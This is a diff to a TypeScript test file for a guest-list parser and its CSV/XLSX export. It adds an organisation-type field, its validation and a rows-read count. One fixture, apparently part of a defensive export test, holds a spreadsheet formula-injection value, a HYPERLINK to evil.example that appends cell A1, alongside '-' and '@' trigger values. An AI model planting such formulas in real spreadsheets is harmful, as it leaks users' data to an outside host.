@@ -2,11 +2,11 @@ import ExcelJS from 'exceljs';
 import { type Column, writeCsv, writeXlsx } from '../exports/write-table.js';
 import { type GuestRow as ParsedRow, MAX_GUEST_ROWS, parseGuestList as parseWithRows } from './parse-guest-list.js';
 
-/** The fixtures below describe guests; where each sat in the file is checked on its own (sourceRow). */
+/** The fixtures below describe guests; where each sat in the file (sourceRow) and how many rows were read (rowsRead) are checked on their own. */
 type GuestRow = Omit<ParsedRow, 'sourceRow'>;
 
 async function parseGuestList(...args: Parameters<typeof parseWithRows>) {
-  const parsed = await parseWithRows(...args);
+  const { rowsRead: _rowsRead, ...parsed } = await parseWithRows(...args);
   return { ...parsed, rows: parsed.rows.map(({ sourceRow: _sourceRow, ...guest }) => guest) };
 }
 
@@ -18,6 +18,7 @@ const AIGERIM: GuestRow = {
   nameLatin: 'Aigerim Saparova',
   country: 'KZ',
   organisation: 'Министерство иностранных дел Республики Казахстан',
+  organisationType: null,
   position: 'Советник',
   category: 'official',
   preferredLanguage: 'ru',
@@ -30,6 +31,7 @@ const AZIZ: GuestRow = {
   nameLatin: 'Aziz Karimov',
   country: 'UZ',
   organisation: 'Торгово-промышленная палата Узбекистана',
+  organisationType: null,
   position: 'Заместитель председателя',
   category: 'business',
   preferredLanguage: 'ru',
@@ -42,6 +44,7 @@ const WANG: GuestRow = {
   nameLatin: 'Wang Fang',
   country: 'CN',
   organisation: '青岛市商务局',
+  organisationType: null,
   position: '副局长',
   category: 'official',
   preferredLanguage: 'zh',
@@ -54,6 +57,7 @@ const BAKYT: GuestRow = {
   nameLatin: 'Bakyt Osmonov',
   country: 'KG',
   organisation: 'Кабар',
+  organisationType: null,
   position: 'Корреспондент',
   category: 'media',
   preferredLanguage: 'en',
@@ -66,6 +70,7 @@ const IVAN: GuestRow = {
   nameLatin: 'Ivan Petrov',
   country: 'RU',
   organisation: 'Секретариат ШОС',
+  organisationType: null,
   position: 'Эксперт',
   category: 'international_organisation',
   preferredLanguage: 'ru',
@@ -78,6 +83,7 @@ const SARDOR: GuestRow = {
   nameLatin: 'Sardor Tursunov',
   country: 'UZ',
   organisation: null,
+  organisationType: null,
   position: null,
   category: 'guest',
   preferredLanguage: 'en',
@@ -197,6 +203,7 @@ describe(parseGuestList.name, () => {
             nameLatin: 'Ivan Petrov',
             country: 'RU',
             organisation: 'Минэкономразвития России',
+            organisationType: null,
             position: null,
             category: 'official',
             preferredLanguage: 'ru',
@@ -427,6 +434,7 @@ describe(parseGuestList.name, () => {
       { header: 'name_latin', value: (guest) => guest.nameLatin },
       { header: 'country', value: (guest) => guest.country },
       { header: 'organisation', value: (guest) => guest.organisation },
+      { header: 'organisation_type', value: (guest) => guest.organisationType },
       { header: 'position', value: (guest) => guest.position },
       { header: 'category', value: (guest) => guest.category },
       { header: 'language', value: (guest) => guest.preferredLanguage },
@@ -440,6 +448,7 @@ describe(parseGuestList.name, () => {
         ...SARDOR,
         email: 'hacker@example.uz',
         organisation: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        organisationType: 'enterprise',
         position: '-',
         delegation: '@delegation',
         phone: '+998 71 123 45 67',
@@ -466,5 +475,43 @@ describe('parseGuestList source rows', () => {
     );
     const parsed = await parseWithRows(file, 'csv');
     expect(parsed.rows.map((guest) => [guest.email, guest.sourceRow])).toEqual([['fine@example.uz', 4]]);
+  });
+});
+
+describe('parseGuestList organisation types and rows read', () => {
+  const header = ['email', 'name_native', 'name_latin', 'country', 'category', 'organisation', 'Organization Type'];
+
+  it('reads organisation_type (codes, any case, with spaces or hyphens) and leaves it null when empty', async () => {
+    const parsed = await parseWithRows(
+      csv([
+        header,
+        ['a@example.kz', 'Айгерим', 'Aigerim', 'KZ', 'official', 'Минторговли', 'Government Body'],
+        ['b@example.kz', 'Бакыт', 'Bakyt', 'KG', 'business', 'Кабар', 'industrial-park'],
+        ['c@example.kz', 'Сардор', 'Sardor', 'UZ', 'guest', 'Uzbek Railways', ''],
+      ]),
+      'csv',
+    );
+    expect(parsed.errors).toEqual([]);
+    expect(parsed.rows.map((guest) => guest.organisationType)).toEqual(['government_body', 'industrial_park', null]);
+  });
+
+  it('refuses an unknown organisation_type, and one given without an organisation', async () => {
+    const parsed = await parseWithRows(
+      csv([header, ['a@example.kz', 'Айгерим', 'Aigerim', 'KZ', 'official', 'Минторговли', 'ministry'], ['b@example.kz', 'Бакыт', 'Bakyt', 'KG', 'media', '', 'media']]),
+      'csv',
+    );
+    expect(parsed.errors).toEqual([
+      { row: 2, field: 'organisation_type', reason: expect.stringMatching(/^organisation_type must be one of government_body, business_association, enterprise/) },
+      { row: 3, field: 'organisation_type', reason: 'organisation_type is given without an organisation' },
+    ]);
+  });
+
+  it('counts every guest row read, valid or not, blank lines and the header aside', async () => {
+    const file = Buffer.from([HEADER.join(','), row({ email: 'bad-email' }).join(','), '', row({ email: 'fine@example.uz' }).join(','), ''].join('\n'));
+    expect(await parseWithRows(file, 'csv')).toMatchObject({ rowsRead: 2, rows: [{ email: 'fine@example.uz' }] });
+    // Under a bad header no row is validated, but each is still counted.
+    const badHeader = Buffer.from([[...HEADER, 'hotel'].join(','), [...row({}), 'x'].join(','), [...row({ email: 'b@example.uz' }), 'y'].join(',')].join('\n'));
+    expect(await parseWithRows(badHeader, 'csv')).toMatchObject({ rowsRead: 2, rows: [] });
+    expect((await parseWithRows(Buffer.from('not,a\n"broken'), 'csv')).rowsRead).toBe(0);
   });
 });
